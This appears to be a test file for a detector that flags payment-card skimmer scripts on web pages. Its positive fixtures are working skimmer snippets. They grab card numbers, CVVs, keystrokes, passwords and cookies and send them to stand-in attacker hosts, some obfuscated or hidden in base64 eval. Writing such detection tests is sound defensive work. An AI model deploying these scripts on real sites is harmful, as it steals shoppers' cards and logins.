import { testCheck } from '../../../test/check-table.ts'
import { page } from '../../../test/evidence.ts'
import check from './skimmer.ts'

const code = (script: string) => ({
  page: page({ body: `<!doctype html><h1>Checkout</h1><script>${script}</script>` }),
})

/** `https://cdn-metrics.example/c` in base64: hosts below .example belong to nobody. */
const HIDDEN_URL = Buffer.from('https://cdn-metrics.example/c').toString('base64')

testCheck(check, {
  fires: [
    {
      name: 'an image that carries the card, on check-out pages only',
      evidence: code(`(function () {
        if (!/checkout|onepage/.test(location.href)) return
        var grab = function () {
          var d = {}
          var list = document.querySelectorAll('#cc-number, #cc-cvv, #cc-exp-month')
          for (var i = 0; i < list.length; i++) { d[list[i].id] = list[i].value }
          return d
        }
        document.querySelector('button.place-order').addEventListener('click', function () {
          var i = new Image()
          i.src = 'https://stats.collector.example/px?d=' + btoa(JSON.stringify(grab()))
        })
      })()`),
      outcome: 'card',
    },
    {
      name: 'a hidden address, and each change of a field',
      evidence: code(`var u = atob('${HIDDEN_URL}');
        ['cardnumber', 'cvv', 'expiry'].forEach(function (id) {
          var f = document.getElementById(id)
          f.addEventListener('blur', function (e) { navigator.sendBeacon(u, id + '=' + e.target.value) })
        })`),
      outcome: 'card',
    },
    {
      name: 'methods of an object, jQuery, XMLHttpRequest',
      evidence: code(`var Sn = {
          Data: {}, Sent: [],
          Gate: "https://jquery-stat.example/g.php",
          SaveParam: function (el) { if (el.value !== undefined) { this.Data[el.name] = el.value } },
          SaveAll: function () { var inputs = document.querySelectorAll("input, select, textarea"); for (var i = 0; i < inputs.length; i++) this.SaveParam(inputs[i]) },
          Send: function () { var x = new XMLHttpRequest(); x.open("POST", this.Gate || "https://jquery-stat.example/g.php", true); x.send(btoa(JSON.stringify(this.Data))) },
          Try: function () { if (location.href.indexOf("checkout") > -1) { Sn.SaveAll(); Sn.Send() } }
        };
        setInterval(Sn.Try, 500)`),
      outcome: 'card',
    },
    {
      name: 'a socket',
      evidence: code(`const s = new WebSocket('wss://live.sock-cdn.example/ws')
        document.querySelector('input[autocomplete="cc-number"]').onkeyup = function () { s.send(this.value) }`),
      outcome: 'card',
    },
    {
      name: 'within eval of base64',
      evidence: code(
        `eval(atob('${Buffer.from(`var n=document.getElementById('card-number').value;fetch('https://sync.gate.example/i',{method:'POST',body:n})`).toString('base64')}'))`,
      ),
      outcome: 'card',
    },
    {
      name: 'a listener to all keys',
      evidence: code(
        `var buf = ''; document.addEventListener('keydown', function (e) { buf += e.key; if (buf.length > 20) { fetch('https://k.log.example/?' + buf); buf = '' } })`,
      ),
      outcome: 'keys',
    },
    {
      name: 'a password to a bot',
      evidence: code(
        `document.forms[0].onsubmit = function () { var p = document.querySelector('input[type=password]').value; fetch('https://api.telegram.org/bot12345:AAbb/sendMessage?chat_id=1&text=' + p) }`,
      ),
      outcome: 'password',
    },
    {
      name: 'a card to a host that nobody knows, openly',
      evidence: code(
        `form.addEventListener('submit', function () { fetch('https://pay.backoffice.example/charge', { method: 'POST', body: JSON.stringify({ number: document.getElementById('card-number').value }) }) })`,
      ),
      outcome: 'card_elsewhere',
    },
    {
      name: 'all fields, in base64',
      evidence: code(
        `window.onbeforeunload = function () { var o = ''; document.querySelectorAll('input').forEach(function (i) { o += i.name + i.value }); fetch('https://r.replay.example/x', { method: 'POST', body: btoa(o) }) }`,
      ),
      outcome: 'fields_elsewhere',
    },
    {
      name: 'cookies in an image',
      evidence: code(`new Image().src = 'https://evil.example/c?' + document.cookie`),
      outcome: 'cookies',
    },
    {
      name: 'words of a skimmer in the table of an obfuscator',
      evidence: code(
        `var _0x1f2a=['${['cc_number', 'cc_cid', 'checkout', 'XMLHttpRequest'].map((word) => Buffer.from(word).toString('base64')).join("','")}','send'];${Array.from({ length: 24 }, (_, n) => `var _0x${(4096 + n).toString(16)}=_0x1f2a[${n % 4}];`).join('')}`,
      ),
      outcome: 'unreadable',
    },
  ],
  silent: [
    {
      name: 'a payment provider gets the card',
      evidence: code(
        `fetch('https://api.stripe.com/v1/tokens', { method: 'POST', body: 'card[number]=' + document.getElementById('card-number').value })`,
      ),
      verdict: 'pass',
    },
    {
      name: 'a provider’s library gets it',
      evidence: code(
        `Stripe.card.createToken({ number: $('.card-number').val(), cvc: $('.card-cvc').val() }, function (s, r) { form.submit() })`,
      ),
      verdict: 'pass',
    },
    {
      name: 'the shop itself gets it',
      evidence: code(
        `fetch('/payment', { method: 'POST', body: JSON.stringify({ n: document.getElementById('cc-number').value }) })`,
      ),
      verdict: 'pass',
    },
    {
      name: 'a host of the shop gets it',
      evidence: code(
        `navigator.sendBeacon('https://secure.site.test/pay', btoa(document.getElementById('cc-number').value))`,
      ),
      verdict: 'pass',
    },
    {
      name: 'analytics that send the name of a field',
      evidence: code(
        `document.getElementById('card-number').addEventListener('change', function (e) { new Image().src = 'https://stats.example/p?f=' + e.target.name + '&l=' + e.target.value.length })`,
      ),
      verdict: 'pass',
    },
    {
      name: 'Google Analytics, as copied',
      evidence: code(
        `(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){(i[r].q=i[r].q||[]).push(arguments)},i[r].l=1*new Date();a=s.createElement(o),m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)})(window,document,'script','https://www.google-analytics.com/analytics.js','ga');ga('create','UA-1','auto');ga('send','pageview')`,
      ),
      verdict: 'pass',
    },
    {
      name: 'a pixel with the address of the page',
      evidence: code(
        `(new Image).src = 'https://px.ads.example/t?u=' + encodeURIComponent(location.href) + '&r=' + encodeURIComponent(document.referrer)`,
      ),
      verdict: 'pass',
    },
    {
      name: 'a search as one types',
      evidence: code(
        `document.getElementById('q').addEventListener('keyup', function (e) { if (e.key === 'Enter') return; fetch('https://search.index.example/q?t=' + encodeURIComponent(this.value)) })`,
      ),
      verdict: 'pass',
    },
    {
      name: 'keys as short cuts',
      evidence: code(
        `document.addEventListener('keydown', function (e) { if (e.key === '/') { document.getElementById('q').focus(); fetch('https://stats.example/event?n=shortcut') } })`,
      ),
      verdict: 'pass',
    },
    {
      name: 'a contact form sent by a service',
      evidence: code(
        `form.onsubmit = function (e) { e.preventDefault(); fetch('https://forms.service.example/f/1', { method: 'POST', body: new FormData(document.querySelector('form')) }) }`,
      ),
      verdict: 'pass',
    },
    {
      name: 'a log-in at an identity service',
      evidence: code(
        `fetch('https://identity.example/login', { method: 'POST', body: JSON.stringify({ password: document.querySelector('input[type=password]').value }) })`,
      ),
      verdict: 'pass',
    },
    {
      name: 'the type of a card is shown as one types',
      evidence: code(
        `document.getElementById('card-number').oninput = function () { document.getElementById('brand').className = /^4/.test(this.value) ? 'visa' : '' }`,
      ),
      verdict: 'pass',
    },
    {
      name: 'one cookie read for consent',
      evidence: code(
        `var c = /consent=(\\w+)/.exec(document.cookie); if (c) { fetch('https://consent.example/log', { method: 'POST', body: c[1] }) }`,
      ),
      verdict: 'pass',
    },
    {
      name: 'data, no code',
      evidence: { page: page({ body: '<script type="application/json">{"cvv":"fetch(1)"}</script>' }) },
      verdict: 'pass',
    },
    { name: 'a page without code', evidence: { page: page({ body: '<p>nothing' }) }, verdict: 'skip' },
  ],
})
